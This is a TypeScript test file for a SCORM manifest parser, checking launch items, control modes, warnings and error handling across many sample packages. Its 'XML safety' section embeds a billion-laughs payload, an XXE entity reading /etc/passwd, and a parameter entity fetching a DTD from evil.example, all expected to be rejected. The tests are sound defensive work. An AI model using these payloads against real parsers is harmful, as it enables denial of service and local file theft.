import { existsSync, readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { sharedDir } from "../../tests/setup/shared";
import { ManifestError, mergeParameters, parseManifest } from "./manifest";
import type { ParsedManifest, ScormItem } from "./types";

const SCORM = path.join(sharedDir(), "testdata", "scorm");

function fileExistsIn(dir: string) {
  return (p: string) => {
    let plain = p;
    try {
      plain = decodeURIComponent(p);
    } catch {
      // keep it as written
    }
    return existsSync(path.join(dir, plain));
  };
}

function load(rel: string): ParsedManifest {
  const dir = path.join(SCORM, rel);
  return parseManifest(readFileSync(path.join(dir, "imsmanifest.xml"), "utf8"), {
    fileExists: fileExistsIn(dir),
  });
}

function loadOrError(rel: string): ParsedManifest | ManifestError {
  try {
    return load(rel);
  } catch (error) {
    if (error instanceof ManifestError) return error;
    throw error;
  }
}

function flatten(items: ScormItem[]): ScormItem[] {
  return items.flatMap((i) => [i, ...flatten(i.children)]);
}

function firstLaunchable(m: ParsedManifest): ScormItem | undefined {
  return flatten(m.organization.items).find((i) => i.launch);
}

function item(m: ParsedManifest, identifier: string): ScormItem {
  const found = flatten(m.organization.items).find((i) => i.identifier === identifier);
  if (!found) throw new Error(`no item ${identifier}`);
  return found;
}

function parseError(xml: string): ManifestError {
  try {
    parseManifest(xml);
  } catch (error) {
    if (error instanceof ManifestError) return error;
    throw error;
  }
  throw new Error("expected a ManifestError");
}

/** the warnings are full sentences for the uploader, never repeated */
function expectTidyWarnings(m: ParsedManifest) {
  expect(new Set(m.warnings).size).toBe(m.warnings.length);
  for (const w of m.warnings) expect(w).toMatch(/^[A-Z0-9"].*\.$/s);
}

const CP12 = `xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2"`;

/** a small scorm 1.2 manifest around the given organizations and resources */
function manifest12(organizations: string, resources: string, extra = ""): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="m1" version="1" ${CP12} ${extra}>
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  ${organizations}
  ${resources}
</manifest>`;
}

function oneItem(resourceAttrs: string, itemAttrs = "") {
  return manifest12(
    `<organizations default="o"><organization identifier="o"><title>T</title>
       <item identifier="i" identifierref="r" ${itemAttrs}><title>I</title></item>
     </organization></organizations>`,
    `<resources><resource identifier="r" type="webcontent" adlcp:scormtype="sco" ${resourceAttrs}/></resources>`,
  );
}

describe("golf examples (unpacked, checked against their files)", () => {
  const golf: { pkg: string; version: "1.2" | "2004"; first: string; launch: string }[] = [
    { pkg: "RuntimeBasicCalls_SCORM12", version: "1.2", first: "item_1", launch: "shared/launchpage.html" },
    {
      pkg: "RuntimeMinimumCalls_SCORM12",
      version: "1.2",
      first: "playing_playing_item",
      launch: "Playing/Playing.html",
    },
    {
      pkg: "ContentPackagingOneFilePerSCO_SCORM12",
      version: "1.2",
      first: "playing_playing_item",
      launch: "Playing/Playing.html",
    },
    {
      pkg: "RuntimeBasicCalls_SCORM20043rdEdition",
      version: "2004",
      first: "item_1",
      launch: "shared/launchpage.html",
    },
    {
      pkg: "RunTimeAdvancedCalls_SCORM20043rdEdition",
      version: "2004",
      first: "item_1",
      launch: "shared/launchpage.html",
    },
    {
      pkg: "ContentPackagingSingleSCO_SCORM20042ndEdition",
      version: "2004",
      first: "item_1",
      launch: "shared/launchpage.html",
    },
    {
      pkg: "ContentPackagingMetadata_SCORM20043rdEdition",
      version: "2004",
      first: "item_1",
      launch: "shared/launchpage.html",
    },
    {
      pkg: "SequencingForcedSequential_SCORM20043rdEdition",
      version: "2004",
      first: "playing_item",
      launch: "shared/launchpage.html?content=playing",
    },
    {
      pkg: "SequencingSimpleRemediation_SCORM20043rdEdition",
      version: "2004",
      first: "playing_item",
      launch: "shared/launchpage.html?content=playing",
    },
    {
      pkg: "SequencingRandomTest_SCORM20043rdEdition",
      version: "2004",
      first: "playing_item",
      launch: "shared/launchpage.html?content=playing",
    },
    {
      pkg: "SequencingPostTestRollup4thEd_SCORM20044thEdition",
      version: "2004",
      first: "playing_item",
      launch: "shared/launchpage.html?content=playing",
    },
  ];

  it("covers every golf package", () => {
    expect(golf.map((g) => g.pkg).sort()).toEqual(readdirSync(path.join(SCORM, "golf")).sort());
  });

  it.each(golf)("$pkg is SCORM $version and launches $launch first", ({ pkg, version, first, launch }) => {
    const m = load(`golf/${pkg}`);
    expect(m.version).toBe(version);
    expect(m.versionSource).toBe("schemaversion");
    expect(firstLaunchable(m)).toMatchObject({ identifier: first, launch });
    expect(m.title).toMatch(/^Golf Explained/);
    // every launch file and listed file is in the unpacked package
    expect(m.warnings.filter((w) => w.includes("not in the package"))).toEqual([]);
    expectTidyWarnings(m);
  });

  it("RuntimeMinimumCalls_SCORM12 keeps the quiz parameters and its aggregations", () => {
    const m = load("golf/RuntimeMinimumCalls_SCORM12");
    const all = flatten(m.organization.items);
    expect(all).toHaveLength(22);
    expect(all.filter((i) => i.launch)).toHaveLength(18);
    expect(item(m, "playing_item")).toMatchObject({
      resourceId: null,
      launch: null,
      children: expect.any(Array),
    });
    expect(item(m, "playing_quiz_item").launch).toBe("shared/assessmenttemplate.html?questions=Playing");
    expect(item(m, "havingfun_quiz_item").launch).toBe("shared/assessmenttemplate.html?questions=HavingFun");
    expect(m.organization.controlMode).toEqual({ choice: true, flow: true, choiceExit: true });
    expect(m.warnings).toEqual([]);
  });

  it("ContentPackagingOneFilePerSCO_SCORM12 is all assets and says completion comes from opening items", () => {
    const m = load("golf/ContentPackagingOneFilePerSCO_SCORM12");
    const launchable = flatten(m.organization.items).filter((i) => i.launch);
    expect(launchable).toHaveLength(18);
    expect(launchable.every((i) => i.scormType === "asset")).toBe(true);
    expect(item(m, "playing_quiz_item").launch).toBe("shared/assessmenttemplate.html?questions=Playing");
    expect(m.warnings).toEqual([
      "No item in this package is a SCO, so none reports progress; completion is tracked when the learner opens each item.",
    ]);
  });

  it("reads 2004 control modes from the organization, defaulting flow to false", () => {
    expect(load("golf/RuntimeBasicCalls_SCORM20043rdEdition").organization.controlMode).toEqual({
      choice: true,
      flow: true,
      choiceExit: true,
    });
    expect(load("golf/SequencingSimpleRemediation_SCORM20043rdEdition").organization.controlMode).toEqual({
      choice: false,
      flow: true,
      choiceExit: true,
    });
    // no imsss:sequencing on the organization: the scorm 2004 defaults
    expect(load("golf/ContentPackagingMetadata_SCORM20043rdEdition").organization.controlMode).toEqual({
      choice: true,
      flow: false,
      choiceExit: true,
    });
  });

  it("SequencingRandomTest hides suspendAll on the hidden tests and keeps the cluster control modes", () => {
    const m = load("golf/SequencingRandomTest_SCORM20043rdEdition");
    for (const id of ["test_1", "test_2", "test_3", "test_4"]) {
      expect(item(m, id)).toMatchObject({ visible: false, hideLmsUi: ["suspendAll"] });
    }
    expect(item(m, "test_2").launch).toBe("shared/launchpage.html?content=assessment2");
    expect(item(m, "playing_item").hideLmsUi).toEqual([]);
    expect(item(m, "content_wrapper")).toMatchObject({
      visible: false,
      launch: null,
      controlMode: { choice: true, flow: true, choiceExit: true },
    });
    expect(item(m, "posttest_item").controlMode).toEqual({ choice: false, flow: true, choiceExit: true });
  });

  it("SequencingSimpleRemediation merges parameters into the shared assessment resource", () => {
    const m = load("golf/SequencingSimpleRemediation_SCORM20043rdEdition");
    expect(item(m, "test_1").launch).toBe("shared/launchpage.html?content=assessment1");
    expect(item(m, "test_4").launch).toBe("shared/launchpage.html?content=assessment4");
    expect(item(m, "content_wrapper").controlMode).toEqual({ choice: false, flow: true, choiceExit: false });
  });

  it("SequencingPostTestRollup4thEd reads the progressWeight attribute form of completionThreshold", () => {
    const m = load("golf/SequencingPostTestRollup4thEd_SCORM20044thEdition");
    expect(m.organization.controlMode).toEqual({ choice: true, flow: true, choiceExit: true });
    const weights = Object.fromEntries(
      flatten(m.organization.items).map((i) => [i.identifier, [i.progressWeight, i.completionThreshold]]),
    );
    // progressWeight alone sets no threshold: minProgressMeasure is absent and completedByMeasure false
    expect(weights).toEqual({
      playing_item: [0.5, null],
      etuqiette_item: [0.3, null],
      handicapping_item: [0.4, null],
      havingfun_item: [0.3, null],
      assessment_item: [0.1, null],
    });
  });

  it("reads the scaled passing score where a primary objective is satisfied by measure", () => {
    expect(item(load("golf/RunTimeAdvancedCalls_SCORM20043rdEdition"), "item_1").scaledPassingScore).toBe(
      0.8,
    );
    for (const pkg of [
      "RuntimeBasicCalls_SCORM20043rdEdition",
      "SequencingForcedSequential_SCORM20043rdEdition",
      "SequencingRandomTest_SCORM20043rdEdition",
    ]) {
      const m = load(`golf/${pkg}`);
      expect(flatten(m.organization.items).map((i) => i.scaledPassingScore)).toEqual(
        flatten(m.organization.items).map(() => null),
      );
    }
  });

  it("lists resources with their xml:base-free hrefs and files", () => {
    const m = load("golf/RuntimeMinimumCalls_SCORM12");
    expect(m.resources).toHaveLength(19);
    expect(m.resources.find((r) => r.identifier === "common_files")).toMatchObject({
      scormType: "asset",
      href: null,
      files: expect.arrayContaining(["shared/scormfunctions.js", "shared/launchpage.html"]),
    });
  });
});

describe("ADL SCORM 2004 4th edition conformance courses", () => {
  const courses = path.join(SCORM, "adl-cts-2004-4th", "Courses");
  const names = readdirSync(courses).filter((d) => existsSync(path.join(courses, d, "imsmanifest.xml")));
  const read = (name: string) => readFileSync(path.join(courses, name, "imsmanifest.xml"), "utf8");

  it("has all 189 packages", () => {
    expect(names).toHaveLength(189);
  });

  it("parses every manifest quickly as 2004 with a launchable first item carrying xml:base and parameters", () => {
    const texts = names.map((n) => [n, read(n)] as const);
    const started = performance.now();
    const parsed = texts.map(([n, xml]) => [n, parseManifest(xml)] as const);
    expect(performance.now() - started).toBeLessThan(3000);
    for (const [name, m] of parsed) {
      expect(m.version, name).toBe("2004");
      const launchable = flatten(m.organization.items).filter((i) => i.launch);
      expect(launchable.length, name).toBeGreaterThanOrEqual(1);
      for (const i of launchable) {
        // 188 put xml:base="resources/" on the resource; SX-03 writes the folder into href
        expect(i.launch, name).toMatch(/^resources\/[\w.-]+\.htm\?tc=[\w-]+&act=\w+$/);
        expect(i.launch, name).not.toContain("&amp;");
      }
      const tc = /[?&]tc=([\w-]+)/.exec(launchable[0]!.launch!)![1]!;
      expect(name.replace("LMSTestPackage_", "").startsWith(tc), name).toBe(true);
      expectTidyWarnings(m);
    }
  });

  it.each(["CM-04d", "CM-07c", "CM-14"])("%s has an invisible item", (name) => {
    const m = parseManifest(read(`LMSTestPackage_${name}`));
    expect(flatten(m.organization.items).some((i) => !i.visible)).toBe(true);
  });

  it("only CM-04d, CM-07c and CM-14 have invisible items", () => {
    const withHidden = names.filter((n) =>
      flatten(parseManifest(read(n)).organization.items).some((i) => !i.visible),
    );
    expect(withHidden).toEqual(["LMSTestPackage_CM-04d", "LMSTestPackage_CM-07c", "LMSTestPackage_CM-14"]);
  });

  it("CM-01 reads duration limits, passing scores and hidden UI", () => {
    const m = parseManifest(read("LMSTestPackage_CM-01"));
    expect(m.organization.controlMode).toEqual({ choice: false, flow: true, choiceExit: true });
    expect(item(m, "activity_1")).toMatchObject({
      launch: "resources/SequencingTest.htm?tc=CM-01&act=1",
      maxTimeAllowed: "P5Y6M4DT12H30M58S",
      scaledPassingScore: null,
      hideLmsUi: ["continue", "previous", "suspendAll"],
    });
    expect(item(m, "activity_2").scaledPassingScore).toBe(0.8);
    expect(item(m, "activity_3")).toMatchObject({
      scaledPassingScore: 0.7,
      maxTimeAllowed: "P5Y6M4DT12H30M58.55S",
    });
  });

  it("DMI reads dataFromLMS, timeLimitAction and the completionThreshold attributes", () => {
    const m = parseManifest(read("LMSTestPackage_DMI"));
    const i = item(m, "activity_1");
    expect(i.dataFromLms).toBe("Launch Data Test");
    expect(flatten(m.organization.items).map((x) => x.timeLimitAction)).toContain("continue,message");
    expect(
      flatten(m.organization.items).some((x) => x.completionThreshold === 0.8 && x.completedByMeasure),
    ).toBe(true);
  });

  it("completedByMeasure without minProgressMeasure means a threshold of 1", () => {
    const all = names.flatMap((n) => flatten(parseManifest(read(n)).organization.items));
    const bare = all.filter((i) => i.completedByMeasure && i.completionThreshold === 1);
    expect(bare.length).toBeGreaterThanOrEqual(2);
  });

  it("resolves sequencing from the sequencingCollection, trimming padded IDs", () => {
    // CM-08: ID="GeneralSequencing       " and IDRef="  GeneralSequencing  " with controlMode flow="true"
    const m = parseManifest(read("LMSTestPackage_CM-08"));
    expect(m.organization.controlMode).toEqual({ choice: true, flow: true, choiceExit: true });
    expect(item(m, "activity_1").controlMode).toEqual({ choice: true, flow: true, choiceExit: true });
    expect(item(m, "activity_2").controlMode).toBeUndefined();
    // T-01a: the pretest cluster takes choice="false" flow="true" from the collection
    const t = parseManifest(read("LMSTestPackage_T-01a"));
    expect(
      flatten(t.organization.items).some((i) => i.controlMode?.choice === false && i.controlMode.flow),
    ).toBe(true);
  });

  it("SX-08a has only assets and says so", () => {
    const m = parseManifest(read("LMSTestPackage_SX-08a"));
    expect(m.warnings).toContain(
      "No item in this package is a SCO, so none reports progress; completion is tracked when the learner opens each item.",
    );
  });
});

type EdgeRow = {
  pkg: string;
  outcome: string;
  check: (r: ParsedManifest | ManifestError) => void;
};

function ok(r: ParsedManifest | ManifestError): ParsedManifest {
  if (r instanceof ManifestError) throw new Error(`unexpected ManifestError: ${r.message}`);
  expectTidyWarnings(r);
  return r;
}

function failed(r: ParsedManifest | ManifestError): ManifestError {
  if (!(r instanceof ManifestError)) throw new Error("expected a ManifestError");
  return r;
}

const edgeCases: EdgeRow[] = [
  {
    pkg: "MalformedXml_SCORM12",
    outcome: "rejected: not well-formed XML at line 27, column 5 (the unclosed <item>)",
    check: (r) => {
      const e = failed(r);
      expect(e.message).toMatch(/^imsmanifest\.xml is not well-formed XML \(line 27, column 5\): .*'item'/);
      expect([e.line, e.column]).toEqual([27, 5]);
    },
  },
  {
    pkg: "MissingLaunchUrl_SCORM12",
    outcome: "rejected: its only item uses a resource with no href, so nothing launches",
    check: (r) => {
      expect(failed(r).message).toBe(
        'the manifest has no launchable resource: item "item_1" points to resource "resource_1", which has no href',
      );
    },
  },
  {
    pkg: "MissingRequiredFields_SCORM12",
    outcome: "imported; the organization is titled by its identifier, with a warning",
    check: (r) => {
      const m = ok(r);
      expect(m.organization.title).toBe("default_org");
      expect(m.title).toBe("");
      expect(m.warnings).toContain(
        'Organization "default_org" has no title, so its identifier is shown instead.',
      );
      expect(firstLaunchable(m)?.launch).toBe("content/index.html");
    },
  },
  {
    pkg: "InvalidFileReferences_SCORM12",
    outcome: "imported with warnings: the launch file is missing and 3 listed files are missing",
    check: (r) => {
      const m = ok(r);
      expect(firstLaunchable(m)?.launch).toBe("content/nonexistent.html");
      expect(m.warnings).toEqual([
        'Item "item_1" launches "content/nonexistent.html", which is not in the package.',
        '3 files listed in the manifest are not in the package, for example "content/nonexistent.js", "content/nonexistent.css" and "content/nonexistent_asset.html".',
      ]);
    },
  },
  {
    pkg: "ItemWithNonExistentResourceId_SCORM12",
    outcome: "imported; the dangling item is left out with a warning and item_2 launches",
    check: (r) => {
      const m = ok(r);
      expect(m.organization.items.map((i) => i.identifier)).toEqual(["item_2"]);
      expect(firstLaunchable(m)?.launch).toBe("content/item2.html");
      expect(m.warnings).toEqual([
        'Item "item_1" points to resource "non_existent_resource", which the manifest does not define, so it was left out.',
      ]);
    },
  },
  {
    pkg: "LaunchUrlFromNestedItem_SCORM12",
    outcome: "imported; the first launch is topic_1_1_1_1, four levels deep",
    check: (r) => {
      const m = ok(r);
      expect(firstLaunchable(m)).toMatchObject({
        identifier: "topic_1_1_1_1",
        launch: "content/topic1.html",
      });
      expect(m.organization.items[0]?.children[0]?.children[0]?.children[0]?.identifier).toBe(
        "topic_1_1_1_1",
      );
      expect(item(m, "module_1")).toMatchObject({ resourceId: null, launch: null });
      expect(m.warnings).toEqual([]);
    },
  },
  {
    pkg: "ComplexNestedOrganization_SCORM12",
    outcome: "imported; all 11 items of the default organization launch, parents as well as children",
    check: (r) => {
      const m = ok(r);
      expect(m.organization.identifier).toBe("default_org");
      const all = flatten(m.organization.items);
      expect(all).toHaveLength(11);
      expect(all.every((i) => i.launch)).toBe(true);
      expect(item(m, "module_1")).toMatchObject({ launch: "content/module1.html", children: [{}, {}] });
      // the package ships no content folder
      expect(m.warnings[0]).toMatch(
        /^11 items launch files that are not in the package: "content\/module1.html"/,
      );
    },
  },
  {
    pkg: "MultipleItemsWithIdentifierRef_SCORM12",
    outcome: "imported; three launchable items, item_1 first",
    check: (r) => {
      const m = ok(r);
      expect(flatten(m.organization.items).map((i) => i.launch)).toEqual([
        "content/item1.html",
        "content/item2.html",
        "content/item3.html",
      ]);
      expect(m.warnings).toEqual([]);
    },
  },
  {
    pkg: "PrerequisitesTest_SCORM12",
    outcome:
      "imported; masteryscore 80/90, maxtimeallowed 02:30:00, timelimitaction exit,message, datafromlms",
    check: (r) => {
      const m = ok(r);
      expect(item(m, "module1")).toMatchObject({ masteryScore: 80, maxTimeAllowed: "02:30:00" });
      // written with the 2004 spelling in a 1.2 manifest; adlcp names match case-insensitively
      expect(item(m, "module2").dataFromLms).toBe("custom_data_for_module2");
      expect(item(m, "module3")).toMatchObject({ timeLimitAction: "exit,message", masteryScore: null });
      expect(item(m, "module4").masteryScore).toBe(90);
      expect(m.warnings).toEqual([]);
    },
  },
  {
    pkg: "ContentPackagingWithMetadata_SCORM12",
    outcome: 'imported; datafromlms "RANDOM"; external metadata is not read',
    check: (r) => {
      const m = ok(r);
      expect(item(m, "i1")).toMatchObject({ dataFromLms: "RANDOM", launch: "index.html", scormType: "sco" });
      expect(m.warnings).toEqual([]);
    },
  },
  {
    pkg: "AdlAttributes_SCORM20043rdEdition",
    outcome:
      "imported; dataFromLMS, timeLimitAction, completionThreshold 0.75 (attributes), hideLMSUI exit/continue, item controlMode",
    check: (r) => {
      const m = ok(r);
      expect(item(m, "item1")).toMatchObject({
        dataFromLms: "Launch Data",
        timeLimitAction: "exit,message",
        completionThreshold: 0.75,
        completedByMeasure: true,
        progressWeight: 1,
        hideLmsUi: ["exit", "continue"],
        controlMode: { choice: false, flow: true, choiceExit: false },
        scormType: null,
      });
      expect(m.organization.controlMode).toEqual({ choice: true, flow: false, choiceExit: true });
      expect(m.warnings).toContain(
        'Resource "res1" does not say whether it is a SCO or an asset (adlcp:scormType is missing).',
      );
    },
  },
  {
    pkg: "ContentPackagingNoSchemaVersion_SCORM20042ndEdition",
    outcome: "imported as 2004 from its namespaces; scormType is found under the adlcp_v1p2-bound prefix",
    check: (r) => {
      const m = ok(r);
      expect([m.version, m.versionSource]).toEqual(["2004", "namespace"]);
      expect(item(m, "item1")).toMatchObject({ scormType: "sco", launch: "index.html" });
    },
  },
  {
    pkg: "MinimalValid_SCORM20043rdEdition",
    outcome: "imported; launches index.html with scormType null and a warning",
    check: (r) => {
      const m = ok(r);
      expect(item(m, "item1")).toMatchObject({ launch: "index.html", scormType: null });
      expect(m.resources).toEqual([{ identifier: "res1", scormType: null, href: "index.html", files: [] }]);
    },
  },
  {
    pkg: "InvalidMissingOrgIdentifier_SCORM20043rdEdition",
    outcome: 'imported; the organization gets the identifier "__organization-1", with warnings',
    check: (r) => {
      const m = ok(r);
      expect(m.organization).toMatchObject({ identifier: "__organization-1", title: "Minimal Course" });
      expect(m.warnings).toEqual(
        expect.arrayContaining([
          'An organization has no identifier, so it was given the identifier "__organization-1".',
          'The manifest names "org1" as its default organization, but no organization has that identifier, so "__organization-1" is used instead.',
        ]),
      );
    },
  },
  {
    pkg: "CM-01-broken-default-org",
    outcome: 'imported; falls back to organization "CM-01" with a warning naming NONEXISTENT_ORG',
    check: (r) => {
      const m = ok(r);
      expect(m.organization.identifier).toBe("CM-01");
      expect(m.warnings[0]).toBe(
        'The manifest names "NONEXISTENT_ORG" as its default organization, but no organization has that identifier, so "CM-01" is used instead.',
      );
      expect(m.organization.controlMode).toEqual({ choice: false, flow: true, choiceExit: true });
      expect(item(m, "activity_2").launch).toBe("resources/SequencingTest.htm?tc=CM-01&act=2");
    },
  },
];

describe("edge cases from elearning-module-parser", () => {
  it("covers every folder", () => {
    expect(edgeCases.map((e) => e.pkg).sort()).toEqual(readdirSync(path.join(SCORM, "edge-cases")).sort());
  });

  it.each(edgeCases)("$pkg: $outcome", ({ pkg, check }) => {
    check(loadOrError(`edge-cases/${pkg}`));
  });
});

describe("moodle-style manifests (inline; the zips are read by the importer)", () => {
  it("complexscorm: default mismatch, shared resource, nested items with content, hidden item, asset item", () => {
    const xml = `<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="DEBUGGER1" ${CP12} xmlns:imsmd="http://www.imsglobal.org/xsd/imsmd_v1p2">
<metadata>
 <schema>ADL SCORM</schema>
 <schemaversion>1.2</schemaversion>
 <adlcp:location>imslrm.xml</adlcp:location>
</metadata>
<organizations default="DEBUGGER-ORG">
  <organization identifier="mm-DEBUGGER-ORG" structure="hierarchical">
    <title>The organization &amp; friends</title>
    <item identifier="s01" isvisible="true" identifierref="RES-SCO"><title>The first content</title></item>
    <item identifier="s02" isvisible="true" identifierref="RES-SCO"><title>The second content</title></item>
    <item identifier="s03" isvisible="true" identifierref="RES-ASSET"><title>Third content (an asset)</title></item>
    <item identifier="s04" isvisible="true" identifierref="RES-SCO">
      <title>SCO with subscoes</title>
      <item identifier="s05" isvisible="true" identifierref="RES-SCO">
        <title>Sub-SCO</title>
        <item identifier="s06" isvisible="true" identifierref="RES-SCO"><title>Sub-Sub-SCO</title></item>
      </item>
    </item>
    <item identifier="s07" isvisible="false" identifierref="RES-SCO"><title>SCO not visible</title></item>
    <item identifier="s08" isvisible="true" identifierref="RES-SCO">
      <title>SCO with prerequisite</title>
      <adlcp:prerequisites type="aicc_script">s01 &amp; s02</adlcp:prerequisites>
    </item>
  </organization>
</organizations>
<resources>
  <resource identifier="RES-SCO" type="webcontent" adlcp:scormtype="sco" href="index.html"><file href="index.html"/></resource>
  <resource identifier="RES-ASSET" type="webcontent" adlcp:scormtype="asset" href="index.html"><file href="index.html"/></resource>
</resources>
</manifest>`;
    const m = parseManifest(xml, { fileExists: (p) => p === "index.html" });
    expect(m.organization).toMatchObject({
      identifier: "mm-DEBUGGER-ORG",
      title: "The organization & friends",
    });
    expect(m.title).toBe("The organization & friends");
    expect(m.warnings).toEqual([
      'The manifest names "DEBUGGER-ORG" as its default organization, but no organization has that identifier, so "mm-DEBUGGER-ORG" is used instead.',
    ]);
    const all = flatten(m.organization.items);
    expect(all.map((i) => i.identifier)).toEqual(["s01", "s02", "s03", "s04", "s05", "s06", "s07", "s08"]);
    expect(all.every((i) => i.launch === "index.html")).toBe(true);
    expect(item(m, "s03").scormType).toBe("asset");
    expect(item(m, "s04")).toMatchObject({ resourceId: "RES-SCO", children: [{ identifier: "s05" }] });
    expect(item(m, "s07").visible).toBe(false);
    expect(m.organization.controlMode).toEqual({ choice: true, flow: true, choiceExit: true });
  });

  it("singlescobasic_missingorg: an empty <organizations/> lists each SCO resource", () => {
    const xml = manifest12(
      "<organizations/>",
      `<resources>
        <resource identifier="resource_1" type="webcontent" adlcp:scormtype="sco" href="sso/launchpage.html">
          <file href="sso/launchpage.html"/>
        </resource>
        <resource identifier="shared" type="webcontent" adlcp:scormtype="asset" href="shared/readme.html"/>
      </resources>`,
    );
    const m = parseManifest(xml);
    expect(m.organization).toMatchObject({
      identifier: "__resources",
      title: "Content",
      items: [
        { identifier: "resource_1", title: "resource_1", launch: "sso/launchpage.html", scormType: "sco" },
      ],
    });
    expect(m.organization.items).toHaveLength(1);
    expect(m.warnings).toEqual([
      "The manifest has no organization, so each SCO resource is listed as an item.",
    ]);
  });

  it("with no organizations element and no SCO, every resource with an href is listed, titled from LOM", () => {
    const xml = `<?xml version="1.0"?>
<manifest identifier="m" ${CP12}>
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion>
    <lom xmlns="http://www.imsglobal.org/xsd/imsmd_rootv1p2p1"><general><title><langstring xml:lang="en">Handbook</langstring></title></general></lom>
  </metadata>
  <resources>
    <resource identifier="a" type="webcontent" adlcp:scormtype="asset" href="a.html"/>
    <resource identifier="b" type="webcontent" adlcp:scormtype="asset"/>
    <resource identifier="c" type="webcontent" adlcp:scormtype="asset" href="c.pdf"/>
  </resources>
</manifest>`;
    const m = parseManifest(xml);
    expect(m.title).toBe("Handbook");
    expect(m.organization.title).toBe("Handbook");
    expect(m.organization.items.map((i) => i.launch)).toEqual(["a.html", "c.pdf"]);
    expect(m.warnings).toContain(
      "The manifest has no organization and no SCO resource, so each resource with an href is listed as an item.",
    );
  });

  it("an empty <organizations/> with no resource href is rejected", () => {
    expect(parseError(manifest12("<organizations/>", "<resources/>")).message).toBe(
      "the manifest has no launchable resource: it has no organization and no resource with an href",
    );
  });

  it.each([
    ["validscorm: an XML declaration only", '<?xml version="1.0" encoding="UTF-8"?>\n'],
    ["an empty file", ""],
    ["a comment only", "<?xml version='1.0'?><!-- nothing here -->"],
  ])("%s has no <manifest> element", (_name, xml) => {
    expect(parseError(xml).message).toBe("imsmanifest.xml has no <manifest> element");
  });

  it("another root element is not a manifest", () => {
    expect(parseError("<?xml version='1.0'?><package/>").message).toBe(
      "imsmanifest.xml has no <manifest> element (its root element is <package>)",
    );
  });
});

describe("XML safety", () => {
  const entityMessage = "imsmanifest.xml declares XML entities (<!ENTITY>), which are not allowed";

  it("rejects billion laughs", () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<manifest identifier="x" ${CP12}><organizations/><resources><resource identifier="r" href="&lol3;.html"/></resources></manifest>`;
    expect(parseError(xml).message).toBe(entityMessage);
  });

  it("rejects an external entity (XXE)", () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE manifest [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
${oneItem('href="index.html"')
  .replace(/^<\?xml[^>]*>/, "")
  .replace("<title>T</title>", "<title>&xxe;</title>")}`;
    expect(parseError(xml).message).toBe(entityMessage);
  });

  it("rejects a parameter entity that would fetch an external DTD", () => {
    const xml = `<!DOCTYPE manifest [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]><manifest/>`;
    expect(parseError(xml).message).toBe(entityMessage);
  });

  it("accepts and ignores a DOCTYPE without entities, never fetching its DTD", () => {
    const body = oneItem('href="index.html"').replace(/^<\?xml[^>]*>/, "");
    for (const doctype of [
      '<!DOCTYPE manifest SYSTEM "http://example.invalid/imscp.dtd">',
      "<!DOCTYPE manifest [ <!ELEMENT manifest ANY> <!-- don't > panic --> ]>",
    ]) {
      const m = parseManifest(`<?xml version="1.0"?>\n${doctype}\n${body}`);
      expect(firstLaunchable(m)?.launch).toBe("index.html");
    }
  });

  it("keeps line and column numbers right after a blanked DOCTYPE", () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE manifest [
  <!ELEMENT manifest ANY>
]>
<manifest identifier="x">
  <organizations>
    <organization identifier="o">
  </organizations>
</manifest>`;
    const e = parseError(xml);
    expect([e.line, e.column]).toEqual([8, 3]);
    expect(e.message).toMatch(/^imsmanifest\.xml is not well-formed XML \(line 8, column 3\): /);
  });

  it("decodes the standard and numeric entities once, in attributes and text, but not inside CDATA", () => {
    const xml = manifest12(
      `<organizations default="o"><organization identifier="o">
         <title>Tom &amp; Jerry &#8211; &#x201C;Q&#x201D; &lt;b&gt; &amp;lt;</title>
         <item identifier="i" identifierref="r" parameters="?a=1&amp;b=&quot;2&quot;"><title><![CDATA[Raw &amp; <kept>]]></title>
           <adlcp:datafromlms>x=1&amp;y=&apos;2&apos;</adlcp:datafromlms>
         </item>
       </organization></organizations>`,
      `<resources><resource identifier="r" type="webcontent" adlcp:scormtype="sco" href="caf&#233;.html"/></resources>`,
    );
    const m = parseManifest(xml);
    expect(m.organization.title).toBe("Tom & Jerry – “Q” <b> &lt;");
    expect(item(m, "i")).toMatchObject({
      title: "Raw &amp; <kept>",
      launch: 'café.html?a=1&b="2"',
      dataFromLms: "x=1&y='2'",
    });
  });
});

describe("namespaces", () => {
  it("finds scormtype under any prefix bound to an ADL CP namespace, case-insensitively", () => {
    const xml = `<?xml version="1.0"?>
<manifest identifier="m" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:foo="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="o"><organization identifier="o"><title>T</title>
    <item identifier="a" identifierref="ra"><title>A</title><foo:masteryscore>75</foo:masteryscore></item>
    <item identifier="b" identifierref="rb"><title>B</title></item>
    <item identifier="c" identifierref="rc"><title>C</title></item>
  </organization></organizations>
  <resources>
    <resource identifier="ra" type="webcontent" foo:scormtype="sco" href="a.html"/>
    <resource identifier="rb" type="webcontent" bar:SCORMTYPE="asset" href="b.html" xmlns:bar="http://www.adlnet.org/xsd/adlcp_v1p3"/>
    <resource identifier="rc" type="webcontent" other:scormtype="sco" href="c.html" xmlns:other="http://example.com/not-adl"/>
  </resources>
</manifest>`;
    const m = parseManifest(xml);
    expect(m.resources.map((r) => r.scormType)).toEqual(["sco", "asset", null]);
    expect(item(m, "a").masteryScore).toBe(75);
  });

  it("reads IMS CP elements written with a prefix", () => {
    const xml = `<?xml version="1.0"?>
<cp:manifest identifier="m" xmlns:cp="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3">
